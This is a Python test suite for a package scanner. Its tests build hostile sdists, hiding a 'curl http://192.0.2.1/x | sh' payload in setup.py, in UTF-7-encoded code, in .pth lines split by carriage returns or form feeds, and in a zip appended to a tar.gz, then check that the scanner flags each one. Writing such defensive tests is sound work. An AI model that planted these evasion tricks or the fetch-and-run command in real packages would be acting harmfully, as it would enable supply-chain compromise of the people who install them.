"""Fail closed: what pip would install is what is reviewed, and nothing unread counts as clean.

Each test builds one hostile artifact in code (inert payloads, documentation addresses only)
and asserts what a moderator relies on: the risk level and the finding that says why.
"""

from __future__ import annotations

import base64

from app.core.archive import Limits, open_artifact
from app.core.capabilities import parsebounds
from app.core.capabilities import scan as scan_module
from app.core.capabilities.model import severity_rank
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import (
    compress,
    make_sdist,
    pkg_info,
    tar_bytes,
    zip_bytes,
)

PAYLOAD = b"import os\nos.system('curl http://192.0.2.1/x | sh')\n"
CLEAN_SETUP = b"from setuptools import setup\nsetup(name='demo')\n"


def scan(path, limits: Limits | None = None):
    return scan_artifact(open_artifact(path, limits))


def caps(result) -> dict[str, str]:
    out: dict[str, str] = {}
    for h in result.findings:
        if severity_rank(h.severity) > severity_rank(out.get(h.capability, "none")):
            out[h.capability] = h.severity
    return out


def at_least_high(result) -> bool:
    return severity_rank(result.risk.level) >= severity_rank("high")


# --------------------------------------------------------------------------- code is code


def test_setup_py_with_many_control_bytes_is_still_analysed(tmp_path):
    """Python runs a file full of form feeds; it must not pass as an unscanned "binary"."""
    setup = PAYLOAD + b"#" + b"\x0c" * 400 + b"\n"
    res = scan(make_sdist(tmp_path, files={"setup.py": setup}))
    assert caps(res).get("process.shell_download") in ("high", "critical")
    assert at_least_high(res)


def test_init_py_with_a_nul_byte_is_text_and_flagged(tmp_path):
    """Older interpreters ran code before a NUL byte; the payload is read and the risk high."""
    res = scan(make_sdist(tmp_path, files={"engine/__init__.py": PAYLOAD + b"#\x00\n"}))
    assert "process.shell_download" in caps(res)
    assert at_least_high(res)


def test_pep263_utf7_declaration_is_honoured(tmp_path):
    """``# coding: utf-7`` turns ``+AGkAbQBwAG8-rt`` into ``import``: read it as Python does."""
    hidden = "os.system('curl http://192.0.2.1/x | sh')".encode("utf-16-be")
    body = b"+" + base64.b64encode(hidden).rstrip(b"=") + b"-"
    setup = b"# -*- coding: utf-7 -*-\nimport os\n" + body + b"\n"
    assert compile(setup, "setup.py", "exec")  # it is valid Python (compiled, never run)
    res = scan(make_sdist(tmp_path, files={"setup.py": setup}))
    assert "process.shell_download" in caps(res)


def test_pth_line_after_a_lone_carriage_return_is_an_import_line(tmp_path):
    """site.py splits .pth files with universal newlines: a lone CR starts a new line."""
    pth = b"./vendor\r# a comment\rimport os; os.system('curl http://192.0.2.1/x | sh')\r"
    res = scan(make_sdist(tmp_path, files={"demo.pth": pth}))
    assert caps(res).get("install.pth_hook") == "high"
    assert "process.shell_download" in caps(res)


def test_pth_line_after_a_form_feed_is_an_import_line(tmp_path):
    """Python 3.13's site.py splits with str.splitlines(): form feed and U+2028 split too."""
    pth = b"# comment\x0cimport os; os.system('curl http://192.0.2.1/x | sh')\n"
    res = scan(make_sdist(tmp_path, files={"demo.pth": pth}))
    assert caps(res).get("install.pth_hook") == "high"


# --------------------------------------------------------------------------- not read, not clean


def unread(result) -> list:
    return [h for h in result.findings if h.capability == "scan.unread"]


def test_setup_py_over_the_member_limit_is_unread_and_high(tmp_path):
    sd = make_sdist(tmp_path, files={"setup.py": CLEAN_SETUP + b"#" * 5000 + b"\n"})
    res = scan(sd, Limits(max_member_bytes=4096))
    assert at_least_high(res)
    hits = unread(res)
    assert hits and hits[0].path == "setup.py" and "too large" in hits[0].explanation


def test_truncated_sdist_is_unread_and_high(tmp_path):
    raw = tar_bytes(
        [
            ("demo-1.0/PKG-INFO", pkg_info("demo", "1.0").encode()),
            ("demo-1.0/setup.py", CLEAN_SETUP + b"#" * 3000 + b"\n"),
        ]
    )
    cut = raw[: 512 * 4 + 700]  # inside setup.py's data
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(cut)
    res = scan(path)
    assert at_least_high(res)
    assert any("setup.py" in h.path for h in unread(res))


def test_analyser_crash_on_package_code_is_unread_and_high(tmp_path, monkeypatch):
    def boom(*_a, **_k):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(scan_module, "analyse_python", boom)
    res = scan(make_sdist(tmp_path, files={"setup.py": CLEAN_SETUP}))
    assert res.errors
    assert at_least_high(res)
    assert any(h.path == "setup.py" and "RecursionError" in h.explanation for h in unread(res))


def test_python_file_too_large_for_the_parser_is_unread_and_high(tmp_path, monkeypatch):
    """Over MAX_PIECES_BYTES (64 MB) not even bounded pieces are parsed (round 11 lifted the
    16 MB refusal below that): only the text rules read the file."""
    monkeypatch.setattr(scan_module, "MAX_PIECES_BYTES", 1000)
    res = scan(make_sdist(tmp_path, files={"engine/core.py": b"x = 1\n" * 400}))
    assert at_least_high(res)
    assert any(h.path == "engine/core.py" for h in unread(res))


def test_setup_py_that_does_not_parse_is_unread_and_high(tmp_path):
    """A newer-syntax setup.py the analyser cannot parse may still run on a newer Python."""
    res = scan(make_sdist(tmp_path, files={"setup.py": b"type X = int\nmatch(\n"}))
    assert at_least_high(res)
    assert any(h.path == "setup.py" for h in unread(res))


def test_skipped_data_file_is_listed_but_not_raised(tmp_path):
    """Only code that can run raises the risk: a too-large image is listed as skipped."""
    sd = make_sdist(tmp_path, files={"docs/big.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 6000})
    res = scan(sd, Limits(max_member_bytes=4096))
    assert any(s["path"] == "docs/big.png" for s in res.skipped)
    assert not unread(res)
    assert res.risk.level == "none"


def test_clean_sdist_stays_clean(tmp_path):
    res = scan(make_sdist(tmp_path))
    assert res.risk.level == "none" and not unread(res)


# --------------------------------------------------------------------------- installer's view


def test_tar_gz_with_a_zip_appended_is_reviewed_as_pip_reads_it(tmp_path):
    """pip unpacks any file ``zipfile.is_zipfile`` accepts as a zip, whatever its first bytes."""
    clean = tar_bytes(
        [
            ("demo-1.0/PKG-INFO", pkg_info("demo", "1.0").encode()),
            ("demo-1.0/setup.py", CLEAN_SETUP),
        ]
    )
    evil = zip_bytes(
        {
            "demo-1.0/PKG-INFO": pkg_info("demo", "1.0").encode(),
            "demo-1.0/setup.py": PAYLOAD + CLEAN_SETUP,
        }
    )
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(compress(clean, "gz") + evil)
    art = open_artifact(path)
    assert "polyglot" in art.flags
    res = scan_artifact(art)
    found = caps(res)
    assert found.get("archive.ambiguous") == "critical"
    assert "process.shell_download" in found
    assert res.risk.level == "critical"


def test_plain_tar_followed_by_a_zip_is_both_readings(tmp_path):
    clean = tar_bytes([("demo-1.0/setup.py", CLEAN_SETUP)])
    evil = zip_bytes({"demo-1.0/setup.py": PAYLOAD})
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(clean + evil)
    res = scan(path)
    assert caps(res).get("archive.ambiguous") == "critical"
    assert "process.shell_download" in caps(res)


def test_multi_member_gzip_is_flagged(tmp_path):
    first = tar_bytes([("demo-1.0/setup.py", CLEAN_SETUP)], end=False)
    second = tar_bytes([("demo-1.0/demo/__init__.py", b"x = 1\n")])
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(compress(first, "gz") + compress(second, "gz"))
    art = open_artifact(path)
    assert {m.path for m in art.members} == {"setup.py", "demo/__init__.py"}
    assert "multi-member-gzip" in art.flags
    assert at_least_high(scan_artifact(art))


def test_duplicate_setup_py_every_copy_reviewed_last_one_shown(tmp_path):
    """tar and zip unpackers keep the last copy: a clean first copy must not hide it."""
    entries = [
        ("demo-1.0/PKG-INFO", pkg_info("demo", "1.0").encode()),
        ("demo-1.0/setup.py", CLEAN_SETUP),
        ("demo-1.0/setup.py", PAYLOAD + CLEAN_SETUP),
    ]
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(compress(tar_bytes(entries), "gz"))
    art = open_artifact(path)
    assert art.member("setup.py").data.startswith(PAYLOAD)
    res = scan_artifact(art)
    assert "process.shell_download" in caps(res)
    assert caps(res).get("archive.ambiguous") in ("high", "critical")


def test_identical_duplicates_are_not_ambiguous(tmp_path):
    entries = [("demo-1.0/setup.py", CLEAN_SETUP), ("demo-1.0/setup.py", CLEAN_SETUP)]
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(compress(tar_bytes(entries), "gz"))
    assert "archive.ambiguous" not in caps(scan(path))


def test_one_line_chain_of_calls_is_not_parsed_and_is_unread(tmp_path):
    """``o.f().f()...`` on one line: the parser would hold it all (4 GB for 16 MB) first."""
    chain = b"x = o" + b".f()" * parsebounds.MAX_CHAIN_BRACKETS + b"\n"
    res = scan(make_sdist(tmp_path, files={"setup.py": chain}))
    assert at_least_high(res)
    assert any("too deeply chained" in h.explanation for h in unread(res))
